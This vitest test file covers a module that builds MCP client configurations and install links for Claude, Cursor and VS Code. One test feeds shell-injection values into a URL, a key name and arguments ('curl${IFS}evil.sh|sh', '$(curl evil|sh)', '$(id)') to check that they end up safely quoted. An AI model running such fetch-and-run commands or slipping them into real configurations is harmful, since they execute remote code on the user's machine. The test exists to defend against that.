import { describe, expect, it } from "vitest";
import {
  clientName,
  connectConfigs,
  hostedConfigs,
  installLinks,
  localCommand,
  npxArgs,
  olderSseUrl,
  remoteConfigs,
  shellWord,
} from "./connect.js";

describe("connect configurations", () => {
  const keys = [{ key: "GitHub Personal Access Token", env_var: "GITHUB_PERSONAL_ACCESS_TOKEN", description: "repo scope" }];

  it("builds Claude Desktop, Claude Code, Cursor and VS Code configs from the npx command and keys", () => {
    const c = connectConfigs("github", "npx -y @modelcontextprotocol/server-github", keys)!;
    expect(JSON.parse(c.claudeDesktop)).toEqual({
      mcpServers: {
        github: {
          command: "npx",
          args: ["-y", "@modelcontextprotocol/server-github"],
          env: { GITHUB_PERSONAL_ACCESS_TOKEN: "<your GitHub Personal Access Token>" },
        },
      },
    });
    expect(c.claudeCode).toBe(
      "claude mcp add github -e 'GITHUB_PERSONAL_ACCESS_TOKEN=<your GitHub Personal Access Token>' -- npx -y @modelcontextprotocol/server-github",
    );
    expect(JSON.parse(c.cursor)).toEqual(JSON.parse(c.claudeDesktop));
    const vs = JSON.parse(c.vscode);
    expect(vs.inputs[0]).toMatchObject({ type: "promptString", id: "github-personal-access-token", password: true });
    expect(vs.servers.github.env.GITHUB_PERSONAL_ACCESS_TOKEN).toBe("${input:github-personal-access-token}");
  });

  it("adds -y when missing and keeps arguments", () => {
    const c = connectConfigs("pg", "npx @modelcontextprotocol/server-postgres postgresql://localhost/db", null)!;
    expect(JSON.parse(c.cursor).mcpServers.pg.args).toEqual(["-y", "@modelcontextprotocol/server-postgres", "postgresql://localhost/db"]);
    expect(JSON.parse(c.cursor).mcpServers.pg.env).toBeUndefined();
  });

  it("has nothing to offer without an npx command", () => {
    expect(connectConfigs("x", null, null)).toBeNull();
    expect(npxArgs("uvx mcp-server-fetch")).toBeNull();
  });
});

describe("hostedConfigs", () => {
  const url = "https://switchboard.example/0123456789abcdef0123456789abcdef/mcp";
  it("gives each client the gateway URL and the Authorization header", () => {
    const c = hostedConfigs("alice/weather", url);
    expect(c.claudeCode).toBe(`claude mcp add --transport http alice-weather ${url} --header "Authorization: Bearer <your API key>"`);
    expect(JSON.parse(c.cursor)).toEqual({ mcpServers: { "alice-weather": { url, headers: { Authorization: "Bearer <your API key>" } } } });
    const vs = JSON.parse(c.vscode) as {
      servers: Record<string, { type: string; url: string; headers: Record<string, string> }>;
      inputs: { id: string; password: boolean }[];
    };
    expect(vs.servers["alice-weather"]).toEqual({ type: "http", url, headers: { Authorization: "Bearer ${input:switchboard-api-key}" } });
    expect(vs.inputs[0]).toMatchObject({ id: "switchboard-api-key", password: true });
    expect(JSON.parse(c.claudeDesktop).mcpServers["alice-weather"].args).toEqual([
      "-y",
      "mcp-remote",
      url,
      "--header",
      "Authorization:Bearer <your API key>",
    ]);
  });
  it("names the server after its id", () => {
    expect(clientName("GitHub")).toBe("github");
    expect(clientName("@scope/x y")).toBe("scope-x-y");
  });
  const key = "sb_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ";
  it("fills in a key given, everywhere but VS Code's file, which asks for it", () => {
    const c = hostedConfigs("alice/weather", url, key);
    expect(c.claudeCode).toBe(`claude mcp add --transport http alice-weather ${url} --header "Authorization: Bearer ${key}"`);
    expect(JSON.parse(c.cursor)).toEqual({ mcpServers: { "alice-weather": { url, headers: { Authorization: `Bearer ${key}` } } } });
    expect(c.claudeDesktop).toContain(`Authorization:Bearer ${key}`);
    expect(c.vscode).not.toContain(key);
    expect(c.plain).toBe(
      `URL: ${url}\nTransport: Streamable HTTP\nHeader: Authorization: Bearer ${key}\nOlder clients (HTTP+SSE transport): ${url.replace(/mcp$/, "sse")}`,
    );
    expect(hostedConfigs("alice/weather", url).plain).toContain("Header: Authorization: Bearer <your API key>");
  });
  it("offers the /sse address beside /mcp only", () => {
    expect(olderSseUrl(url)).toBe(url.replace(/\/mcp$/, "/sse"));
    expect(olderSseUrl("https://x.example/other")).toBeNull();
  });
  it("makes Cursor's and VS Code's install links with the key", () => {
    const links = installLinks("alice/weather", url, key);
    const cursor = new URL(links.cursor);
    expect(`${cursor.protocol}//${cursor.host}${cursor.pathname}`).toBe("cursor://anysphere.cursor-deeplink/mcp/install");
    expect(cursor.searchParams.get("name")).toBe("alice-weather");
    expect(JSON.parse(atob(cursor.searchParams.get("config")!))).toEqual({ url, headers: { Authorization: `Bearer ${key}` } });
    expect(links.vscode.startsWith("vscode:mcp/install?")).toBe(true);
    expect(JSON.parse(decodeURIComponent(links.vscode.slice("vscode:mcp/install?".length)))).toEqual({
      name: "alice-weather",
      type: "http",
      url,
      headers: { Authorization: `Bearer ${key}` },
    });
  });
});

describe("a server its publisher hosts, or run through uvx", () => {
  it("points each client at the URL with no key of ours; an /sse URL uses the SSE transport", () => {
    const c = remoteConfigs("acme", "https://mcp.acme.example/sse", "sse");
    expect(c.claudeCode).toBe("claude mcp add --transport sse acme https://mcp.acme.example/sse");
    expect(JSON.parse(c.vscode)).toEqual({ servers: { acme: { type: "sse", url: "https://mcp.acme.example/sse" } } });
    expect(JSON.parse(c.cursor)).toEqual({ mcpServers: { acme: { url: "https://mcp.acme.example/sse" } } });
  });

  it("quotes a URL or argument a shell would read as commands, so a pasted snippet runs nothing else", () => {
    const hostile = "https://x.example/m;curl${IFS}evil.sh|sh'";
    expect(remoteConfigs("x", hostile, "streamable-http").claudeCode).toBe(
      "claude mcp add --transport http x 'https://x.example/m;curl${IFS}evil.sh|sh'\\'''",
    );
    expect(shellWord("plain-arg_1.0")).toBe("plain-arg_1.0");
    expect(shellWord("$(id)")).toBe("'$(id)'");
    for (const w of ["a?b", "~", "#c", "=x", "*", "", "a b", "a\nb"]) expect(shellWord(w)).toBe(`'${w}'`);
    expect(shellWord("https://x.example/mcp?key=1")).toBe("'https://x.example/mcp?key=1'");
    expect(shellWord("--db-path=data.db")).toBe("--db-path=data.db");
    const key = { key: "$(curl evil|sh)", env_var: "K", description: "" };
    expect(connectConfigs("x", "npx -y pkg", [key])!.claudeCode).toBe("claude mcp add x -e 'K=<your $(curl evil|sh)>' -- npx -y pkg");
    expect(connectConfigs("evil", "npx -y pkg $(id)", null)!.claudeCode).toBe("claude mcp add evil -- npx -y pkg '$(id)'");
  });

  it("runs a uvx command through uvx (no -y)", () => {
    const c = connectConfigs("time", "uvx mcp-server-time==1.0 --local-timezone=UTC", null)!;
    expect(c.claudeCode).toBe("claude mcp add time -- uvx mcp-server-time==1.0 --local-timezone=UTC");
    expect(JSON.parse(c.cursor)).toEqual({
      mcpServers: { time: { command: "uvx", args: ["mcp-server-time==1.0", "--local-timezone=UTC"] } },
    });
  });

  it("gives no local command for an image that speaks HTTP (docker run -p): its hosted URL is the way in", () => {
    expect(localCommand("docker run -p 8080 --rm ghcr.io/acme/web:1")).toBeNull();
    expect(connectConfigs("web", "docker run -p 8080 --rm ghcr.io/acme/web:1", [])).toBeNull();
  });

  it("runs an image through docker run -i, its keys passed by name from the client's environment", () => {
    const key = { key: "Token", env_var: "BOX_TOKEN", description: "" };
    const c = connectConfigs("boxed", "docker run -i --rm -e BOX_TOKEN ghcr.io/acme/boxed:2.0.1", [key])!;
    expect(c.claudeCode).toBe(
      "claude mcp add boxed -e 'BOX_TOKEN=<your Token>' -- docker run -i --rm -e BOX_TOKEN ghcr.io/acme/boxed:2.0.1",
    );
    expect(JSON.parse(c.cursor)).toEqual({
      mcpServers: {
        boxed: {
          command: "docker",
          args: ["run", "-i", "--rm", "-e", "BOX_TOKEN", "ghcr.io/acme/boxed:2.0.1"],
          env: { BOX_TOKEN: "<your Token>" },
        },
      },
    });
    expect(connectConfigs("x", "docker pull acme/x", null)).toBeNull();
  });
});
